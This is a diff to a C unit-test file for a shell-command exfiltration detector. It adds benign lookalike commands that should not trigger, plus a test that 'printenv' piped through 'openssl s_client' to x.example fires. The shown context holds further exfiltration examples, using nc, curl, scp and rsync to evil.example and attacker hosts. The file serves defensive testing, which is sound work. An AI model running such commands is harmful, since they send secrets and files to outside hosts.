@@ -107,6 +107,10 @@ TEST(shell_benign_lookalikes_stay_quiet)
 	    "base64 -d encoded.txt > decoded.bin",
 	    "echo aGVsbG8= | base64 -d",
 	    "mv build /tmp/old-build",
+	    "echo -n hello | openssl dgst -sha256",
+	    "openssl x509 -in cert.pem -noout -subject 2>/dev/null | head -1",
+	    "echo '{\"a\":1}' | curl -s -d @- https://api.example.com/v1",
+	    "git diff | less",
 	    "python3 -c 'print(1+1)'",
 	    "node -e 'console.log(process.version)'",
 	    NULL};
@@ -162,6 +166,8 @@ TEST(shell_exfiltration)
 	ASSERT_TRUE(fires("nc evil.example 4444 < db.sqlite", "exfil-pipe", CONF_HIGH));
 	ASSERT_TRUE(
 	    fires("cat notes | curl --data-binary @- https://x.example", "exfil-pipe", CONF_HIGH));
+	ASSERT_TRUE(fires("printenv | openssl s_client -quiet -connect x.example:443", "exfil-pipe",
+			  CONF_HIGH));
 	ASSERT_TRUE(fires("scp -r . user@evil.example:/tmp/", "exfil-remote-copy", CONF_HIGH));
 	ASSERT_TRUE(
 	    fires("rsync -az ~/project attacker@1.2.3.4:loot", "exfil-remote-copy", CONF_HIGH));
